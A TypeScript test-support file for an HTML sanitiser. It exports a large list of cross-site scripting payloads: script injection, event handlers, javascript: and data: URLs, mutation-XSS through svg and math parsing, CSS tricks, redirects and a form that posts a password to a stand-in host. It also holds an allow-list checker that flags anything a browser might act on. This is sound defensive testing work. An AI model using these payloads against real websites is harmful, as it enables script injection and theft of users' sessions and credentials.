import { Parser } from 'htmlparser2'

/** Stands for the address of an image of this shop, so that what hides beside a good address is tried, too. */
export const IMAGE = 'IMAGE-OF-THIS-SHOP'

const TAB = String.fromCharCode(9)
const BELL = String.fromCharCode(7)

/** Ways to have a browser run or load something, old and new. */
export const HOSTILE: string[] = [
  // scripts, whole, broken, nested
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script src=https://evil.example/x.js',
  '<p><script>alert(1)</p></script>',
  '</p><script>alert(1)</script><p>',
  '"><script>alert(1)</script>',
  '<script\u0000>alert(1)</script>',
  '<%00script>alert(1)</%00script>',
  // handlers of events
  `<img src="${IMAGE}" onerror=alert(1)>`,
  `<img src="${IMAGE}" OnLoad="alert(1)">`,
  `<img src="${IMAGE}"onload=alert(1)>`,
  `<img/src="${IMAGE}"/onload/=alert(1)>`,
  `<img src="${IMAGE}" on${TAB}error=alert(1) x="`,
  '<img src=x onerror="alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<p onclick="alert(1)" onmouseover=alert(1) ondragstart=alert(1)>x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<p onpointerrawupdate=alert(1) onbeforetoggle=alert(1) popover>x</p>',
  '<body onload=alert(1)>x',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input onfocus=alert(1) autofocus>',
  '<select autofocus onfocus=alert(1)><option>x</option></select>',
  '<textarea autofocus onfocus=alert(1)>x</textarea>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<a onfocus=alert(1) tabindex=1 href="/x">x</a>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)" onclick=alert(1)>x</td></table>',
  '<p style="animation-name:x" onanimationstart="alert(1)">x</p>',
  // addresses that run something
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  `<a href="java${TAB}script:alert(1)">x</a>`,
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&NewLine;script&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  `<a href=" ${BELL} javascript:alert(1)">x</a>`,
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="javascript://%0aalert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="livescript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  `<a href="/${TAB}/evil.example/">x</a>`,
  '<a href="https:\\\\evil.example">x</a>',
  '<a xlink:href="javascript:alert(1)" href="/x">x</a>',
  '<a href="/x" ping="https://evil.example" target="_top" download>x</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<img src="//evil.example/x.png">',
  '<img src="https://evil.example/x.png">',
  '<img src="/files/../v1/user">',
  `<img src="${IMAGE}" srcset="https://evil.example/x.png 2x" sizes=1>`,
  `<img src="${IMAGE}" longdesc="javascript:alert(1)" usemap="#x" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">`,
  // styles
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="background-image:url(https://evil.example/x)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="color:expression(alert(1))">x</p>',
  '<p style="color:red;position:fixed;inset:0;z-index:9999">x</p>',
  '<span style="color:#fff;background:url(//evil.example)">x</span>',
  '<p style="text-align:center;behavior:url(x.htc);-moz-binding:url(x)">x</p>',
  '<p style="color:rgb(0,0,0);}*{background:url(//evil.example)">x</p>',
  '<p style="c\\6flor:red;text-align:ce/**/nter">x</p>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  // other documents
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<iframe/src=//evil.example>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<frameset onload=alert(1)><frame src=//evil.example></frameset>',
  '<portal src="//evil.example">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<isindex action="javascript:alert(1)" type=image>',
  // forms and names that get in the way
  '<form action="//evil.example"><input name=password><button>x</button></form>',
  '<button formaction="javascript:alert(1)" form=x>x</button>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  `<img src="${IMAGE}" id=cookie name=getElementById class=x>`,
  '<a id=location name=body href="/x">x</a>',
  '<p id="__next" class="mantine-Modal" slot=x is=x part=x contenteditable>x</p>',
  // other namespaces, and documents that mean another thing when they are read again
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><style><!--</style><img src=x onerror=alert(1)>--></svg>',
  '<svg><desc><table><style><img src=x onerror=alert(1)>',
  '<math><mi><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<plaintext><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<table><td><svg><p><style><img src=x onerror=alert(1)></table>',
  `${'<div>'.repeat(600)}<svg><style><img src=x onerror=alert(1)>`,
  // comments and other marks
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<?<img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;<b>x</b>',
  '<\u0131mg src=x onerror=alert(1)>',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '<a href="https://ok.example/?x=%22onclick=alert(1)">x</a>',
  `<img src="${IMAGE}" alt='"onerror="alert(1)'>`,
  `<img src="${IMAGE}" alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">`,
]

/** A second list, independent of the sanitiser's rules. */
const MAY: Record<string, RegExp> = {
  href: /^(https?:\/\/[\w.-]+(:\d+)?(\/[^\s"<>\\]*)?(\?[^\s"<>\\]*)?|mailto:[^\s"<>\\]+|tel:[\d+() -]+|\/([^/\s"<>\\][^\s"<>\\]*)?)$/,
  src: /^(https?:\/\/[\w.:-]+)?\/files\/[0-9a-f]{64}\.(png|jpg|webp|gif)$/,
  alt: /^[\s\S]{0,200}$/,
  width: /^\d{1,4}$/,
  height: /^\d{1,4}$/,
  start: /^\d{1,3}$/,
  colspan: /^\d{1,3}$/,
  rowspan: /^\d{1,3}$/,
  style: /^(text-align: (left|center|right|justify))?(; )?(color: (#[0-9a-f]{3}|#[0-9a-f]{6}|rgb\([\d, ]+\)))?$/,
}
const ON: Record<string, string[]> = {
  a: ['href', 'style'],
  img: ['src', 'alt', 'width', 'height'],
  ol: ['start', 'style'],
  td: ['colspan', 'rowspan', 'style'],
  th: ['colspan', 'rowspan', 'style'],
}
const TAGS =
  /^(p|div|h[1-4]|blockquote|pre|[uo]l|li|hr|table|caption|t(head|body|foot|r|h|d)|strong|em|[us]|su[bp]|code|span|a|br|img)$/

/** The parts of a document that a browser might act upon. None: it is safe to show. */
export function findHostile(html: string): string[] {
  const found: string[] = []
  const parser = new Parser({
    onopentag(tag, attributes) {
      if (!TAGS.test(tag)) found.push(`<${tag}>`)
      for (const [name, value] of Object.entries(attributes)) {
        if (!(ON[tag] ?? ['style']).includes(name) || !MAY[name]?.test(value)) found.push(`${tag} ${name}=${value}`)
      }
    },
    oncomment: (data) => void found.push(`<!--${data}-->`),
    onprocessinginstruction: (_, data) => void found.push(`<${data}>`),
  })
  parser.end(html)
  // However a browser reads it: outside of tags there is no <, and no tag but those above begins.
  const strange = html.replace(/<\/?[a-z][a-z0-9]*(?: [a-z]+="[^"<>]*")*(?: \/)?>/g, '').match(/[<>].{0,20}/)
  return strange ? [...found, strange[0]] : found
}
